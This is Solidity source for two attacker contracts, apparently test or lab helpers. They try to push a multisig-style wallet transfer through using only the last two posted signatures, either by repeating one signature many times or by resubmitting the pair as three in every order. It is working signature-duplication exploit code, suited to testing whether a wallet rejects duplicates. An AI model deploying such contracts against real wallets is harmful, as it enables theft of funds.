/// Sends the last two notes, the second one so many times.
contract Stammerer {
    Notes private immutable board;

    constructor(Notes notes) {
        board = notes;
    }

    function send(Wallet wallet, address to, uint256 value, uint256 ticket, uint256 times) external {
        uint256 first = board.noteCount() - 2;
        bytes[] memory signatures = new bytes[](1 + times);
        for (uint256 i = 0; i <= times; i++) signatures[i] = board.noteAt(first + (i == 0 ? 0 : 1));
        wallet.sendSigned(to, value, "", "", ticket, signatures);
    }
}

/// Sends the last two notes as three, in every order until one is accepted.
contract Shuffler {
    Notes private immutable board;

    constructor(Notes notes) {
        board = notes;
    }

    function send(Wallet wallet, address to, uint256 value, uint256 ticket) external {
        uint256 first = board.noteCount() - 2;
        bytes[] memory signatures = new bytes[](3);
        for (uint256 order = 1; order < 7; order++) {
            for (uint256 i = 0; i < 3; i++) signatures[i] = board.noteAt(first + ((order >> i) & 1));
            try wallet.sendSigned(to, value, "", "", ticket, signatures) {
                return;
            } catch {}
        }
    }
}
